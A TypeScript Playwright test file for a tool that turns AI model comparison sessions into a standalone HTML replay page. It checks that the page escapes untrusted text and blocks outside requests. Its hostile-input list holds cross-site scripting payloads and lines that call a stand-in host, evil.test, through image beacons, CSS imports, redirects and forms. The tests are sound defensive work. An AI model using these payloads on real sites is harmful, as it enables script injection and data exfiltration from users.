import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { Session } from '@playground/contracts'
import { findChromium, temporaryDirectory } from '@playground/testing'
import { chromium, type Page } from 'playwright-core'
import { t } from 'tap'
import { sessionPage } from '../../src/documents/session-page.ts'
import { sampleSession } from '../fixtures/sample-session.ts'

t.setTimeout(120_000)
const directory = await temporaryDirectory('page')
const browser = await chromium.launch({ executablePath: findChromium(), args: ['--no-sandbox'] })
t.teardown(async () => {
  await browser.close()
  await directory[Symbol.asyncDispose]()
})

/** Every answer arrives in ten parts, 100 ms apart. */
const timelineOf = (text: string) =>
  Array.from({ length: 10 }, (_, at): [number, number] => [100 * (at + 1), Math.ceil((text.length * (at + 1)) / 10)])

async function* jsonOf({ userId: _, ...session }: Session): AsyncGenerator<string> {
  const timed = session.comparisons.map((comparison) => ({
    ...comparison,
    runs: comparison.runs.map((run) => ({ ...run, timeline: timelineOf(run.text) })),
  }))
  // In pieces whose borders fall anywhere.
  const text = JSON.stringify({ session: { ...session, comparisons: timed } })
  for (let at = 0; at < text.length; at += 97) yield text.slice(at, at + 97)
}

let files = 0
/** Opens the file from the disk, and notes whatever it must not do. */
async function open(session: Session): Promise<{ page: Page; trouble: string[] }> {
  const file = join(directory.path, `page-${++files}.html`)
  const pieces: string[] = []
  for await (const piece of sessionPage(session.title, jsonOf(session))) pieces.push(piece)
  await writeFile(file, pieces.join(''))
  const url = pathToFileURL(file).href
  const context = await browser.newContext({ colorScheme: 'dark' })
  const page = await context.newPage()
  const trouble: string[] = []
  page.on('console', (message) => trouble.push(`console: ${message.text()}`))
  page.on('pageerror', (error) => trouble.push(`thrown: ${error.message}`))
  page.on('dialog', (dialog) => {
    trouble.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    if (request.url() !== url) trouble.push(`request: ${request.url()}`)
  })
  await page.goto(url)
  return { page, trouble }
}

t.test('from a file, without any network, it shows the session and replays its race', async (t) => {
  const text = '0123456789'.repeat(20)
  const { page, trouble } = await open(sampleSession([{ prompt: 'Count, please', answers: [text, text.slice(0, 40)] }]))
  t.equal(await page.getByRole('heading', { level: 1 }).textContent(), 'A sample')
  t.equal(await page.locator('blockquote').textContent(), 'Count, please')
  const answers = page.locator('article > .answer')
  t.same(await answers.allTextContents(), [text, text.slice(0, 40)], 'whole at first')
  t.match(
    await page.locator('article').first().textContent(),
    /Lane 1.*lab\/model-1.*First token.*0\.12 s.*\$0\.001234 \(exact\)/,
  )

  const slider = page.getByRole('slider', { name: 'Time' })
  await slider.fill('550')
  t.same(await answers.allTextContents(), [text.slice(0, 100), text.slice(0, 20)], 'as they stood at that time')
  t.match(await page.locator('output').textContent(), '0.55 s of 1.00 s')
  await slider.fill('0')
  t.same(await answers.allTextContents(), ['', ''])

  await page.getByRole('button', { name: 'Speed' }).click()
  await page.getByRole('button', { name: 'Play' }).click()
  await page.locator('article > .answer', { hasText: text }).waitFor()
  t.same(await answers.allTextContents(), [text, text.slice(0, 40)])
  // Over in a quarter of a second: whoever is slow to press again is given the time.
  await page.clock.pauseAt(Date.now() + 1_000)
  await page.getByRole('button', { name: 'Replay' }).click()
  await page.getByRole('button', { name: 'Pause' }).click()
  await page.getByRole('button', { name: 'Play', exact: true }).waitFor()
  t.same(trouble, [])
  await page.context().close()
})

t.test('nothing that a model or a person wrote is anything but text', async (t) => {
  const hostile = [
    '</script><script>alert(1)</script>',
    '<!--<script>',
    ']]><img src=x onerror=alert(1)>',
    '<img src="https://evil.test/?d=1">',
    '<svg onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>@import "https://evil.test/x.css"; body { display: none }</style>',
    '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<form action="https://evil.test/"><button>x</button></form>',
    '<a id=data name=session>clobbered</a>',
    '![x](https://evil.test/x.png) [x](javascript:alert(1))',
    '\u202ebidi \u2028 \u2029',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '{{constructor.constructor("alert(1)")()}}',
  ]
  const title = '</title><script>alert(1)</script><img src="https://evil.test/t.png" onerror=alert(1)>'
  const sample = sampleSession(
    [
      { prompt: hostile.join('\n'), answers: hostile.slice(0, 7) },
      { prompt: '</script>', answers: hostile.slice(7) },
    ],
    title,
  )
  const session = {
    ...sample,
    lanes: sample.lanes.map((lane) => ({ ...lane, label: hostile[lane.position] ?? '' })),
    comparisons: sample.comparisons.map((comparison) => ({
      ...comparison,
      runs: comparison.runs.map((run, at) => ({
        ...run,
        model: hostile[at] ?? '',
        reasoning: hostile[at] ?? '',
        error: { code: 'provider_protocol_error' as const, message: hostile[at] ?? '', retryable: false },
      })),
    })),
  }
  const { page, trouble } = await open(session)
  t.equal(await page.title(), title)
  const shown = await page.locator('article > .answer').allTextContents()
  t.same(shown, hostile)
  await page.getByRole('slider', { name: 'Time' }).first().fill('300')
  const names = await page.evaluate<string[]>("[...document.querySelectorAll('*')].map((one) => one.localName)")
  t.same(
    names.filter((name) => ['img', 'svg', 'iframe', 'base', 'form', 'a', 'link', 'object', 'embed'].includes(name)),
    [],
  )
  t.equal(await page.locator('script').count(), 2, 'the data and our own')
  t.same(trouble, [])
  await page.context().close()
})

t.test('the policy in the file lets nothing else run or load', async (t) => {
  const { page } = await open(sampleSession([{ prompt: 'x', answers: ['x'] }]))
  const ran = await page.evaluate(`(async () => {
    const script = document.createElement('script')
    try {
      script.textContent = 'window.ran = true'
      document.body.append(script)
    } catch {}
    const answered = await fetch('https://evil.test/').then(() => true, () => false)
    return [window.ran === true, answered]
  })()`)
  t.same(ran, [false, false])
  const policy = await page.locator('meta[http-equiv]').first().getAttribute('content')
  t.match(policy, /^default-src 'none'; script-src 'sha256-/)
  t.notMatch(policy, /unsafe/)
  await page.context().close()
})
